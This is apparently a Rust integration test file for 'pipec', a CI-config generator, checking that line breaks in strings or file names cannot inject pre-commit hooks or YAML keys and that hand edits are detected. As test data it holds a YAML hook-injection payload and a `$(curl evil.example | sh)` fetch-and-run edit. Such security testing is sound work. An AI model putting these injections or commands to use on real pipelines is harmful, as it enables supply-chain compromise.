//! Strings of a program stay strings in the files `pipec build` writes, as
//! the tools that read those files see them: pre-commit runs only the hooks
//! the program declares, `pipec build --check` notices every hand edit, and a
//! program's file name stays in the header comment.

mod support;

use support::{Repo, tool};

/// A lint job whose installation step hides a carriage return (and the other
/// line breaks YAML 1.1 readers honour) followed by a hook of its own.
const INJECTION: &str = r#"pipeline ci {
  on push
  job lint {
    role lint
    step "Install" run "pip install flake8\r        entry: 'true'\r        language: system\r      - id: evil\r        name: evil\r        entry: sh -c 'touch PWNED'\r        language: system\r        always_run: true\r        pass_filenames: false\u{85}      - id: evil2\u{85}        name: evil2\u{85}        entry: sh -c 'touch PWNED2'\u{85}        language: system\u{85}        always_run: true\u{85}        pass_filenames: false\r      - id: rest\r        name: rest"
    step "Check" run "true"
  }
}
"#;

#[test]
fn a_line_break_in_a_string_never_adds_a_pre_commit_hook() {
    let Some(pc) = tool("pre-commit") else { return };
    let repo = Repo::new("precommit-injection");
    repo.write("ci.pipe", INJECTION);
    let built = repo.pipec(&["build", "ci.pipe", "--target", "pre-commit"]);
    assert_eq!(built.code, 0, "{built:?}");
    let config = repo.read(".pre-commit-config.yaml");
    assert!(!config.contains(['\r', '\u{85}']), "{config}");
    repo.commit_all("project");
    let out = std::process::Command::new(&pc)
        .args(["run", "--all-files", "--color", "never"])
        .current_dir(&repo.dir)
        .env(
            "PRE_COMMIT_HOME",
            repo.dir.with_extension("pre-commit-home"),
        )
        .env("PATH", support::path_with_pipec())
        .output()
        .expect("run pre-commit");
    let run = support::Run::from(out);
    assert!(
        !repo.path("PWNED").exists(),
        "an undeclared hook ran: {run:?}"
    );
    assert!(
        !repo.path("PWNED2").exists(),
        "an undeclared hook ran: {run:?}"
    );
    // The hooks that ran are the declared ones: the check and pipec's own.
    let ran: Vec<&str> = run
        .stdout
        .lines()
        .filter(|l| l.contains("..."))
        .map(|l| l.split("...").next().unwrap_or(""))
        .collect();
    assert_eq!(ran.len(), 2, "{run:?}");
    assert!(ran.iter().all(|l| !l.contains("evil")), "{run:?}");
    assert_eq!(run.code, 0, "{run:?}");
}

#[test]
fn a_hand_edit_of_a_line_that_ends_like_a_ci_owned_value_is_noticed() {
    let repo = Repo::new("ci-owned-script");
    repo.write(
        "ci.pipe",
        "pipeline ci {\n  on push\n  job t {\n    run \"\"\"\n      echo one\n      echo status: ok # pipec: set by CI\n      \"\"\"\n  }\n}\n",
    );
    let built = repo.pipec(&["build", "ci.pipe", "--target", "github"]);
    assert_eq!(built.code, 0, "{built:?}");
    let path = ".github/workflows/ci.yml";
    let before = repo.read(path);
    assert_eq!(
        repo.pipec(&["build", "ci.pipe", "--target", "github", "--check"])
            .code,
        0
    );
    let edited = before.replace("status: ok", "status: $(curl evil.example | sh)");
    assert_ne!(edited, before, "the script is in the file:\n{before}");
    repo.write(path, &edited);
    let check = repo.pipec(&["build", "ci.pipe", "--target", "github", "--check"]);
    assert_ne!(check.code, 0, "the edit went unnoticed: {check:?}");
    assert!(
        format!("{}{}", check.stdout, check.stderr).contains("edited by hand"),
        "{check:?}"
    );
}

#[test]
fn the_ci_owned_marker_added_by_hand_is_a_hand_edit() {
    let repo = Repo::with_example("ci-owned-marker", "flask-api");
    let built = repo.pipec(&["build", "ci", "--target", "kustomize"]);
    assert_eq!(built.code, 0, "{built:?}");
    let overlay = "deploy/flask-api/overlays/prod/kustomization.yaml";
    let before = repo.read(overlay);
    let line = before
        .lines()
        .find(|l| l.trim_start().starts_with("namespace:"))
        .expect("a namespace line");
    let edited = before.replacen(
        line,
        &format!(
            "{}: 'default' # pipec: set by CI",
            line.split(':').next().unwrap_or("")
        ),
        1,
    );
    assert_ne!(edited, before);
    repo.write(overlay, &edited);
    let check = repo.pipec(&["build", "ci", "--target", "kustomize", "--check"]);
    assert_ne!(check.code, 0, "the edit went unnoticed: {check:?}");
    // A rebuild with --force puts the namespace back.
    let forced = repo.pipec(&["build", "ci", "--target", "kustomize", "--force"]);
    assert_eq!(forced.code, 0, "{forced:?}");
    assert_eq!(repo.read(overlay), before);
}

#[test]
fn a_line_break_in_the_program_file_name_stays_in_the_header() {
    let repo = Repo::new("file-name-line-break");
    for name in ["ci\r- evil: 1.pipe", "ci\u{85}x.pipe"] {
        repo.write(
            name,
            "pipeline ci {\n  on push\n  job t { run \"make\" }\n}\n",
        );
        let built = repo.pipec(&["build", name, "--target", "github"]);
        assert_eq!(built.code, 0, "{built:?}");
        let workflow = repo.read(".github/workflows/ci.yml");
        let header: Vec<&str> = workflow.split('\n').take(2).collect();
        assert!(
            header[0].starts_with("# Generated by pipec from ")
                && header[1].starts_with("# pipec-hash: ")
                && !workflow.contains(['\r', '\u{85}']),
            "{workflow:?}"
        );
        let check = repo.pipec(&["build", name, "--target", "github", "--check"]);
        assert_eq!(check.code, 0, "{check:?}");
        std::fs::remove_file(repo.path(name)).expect("remove");
    }
}
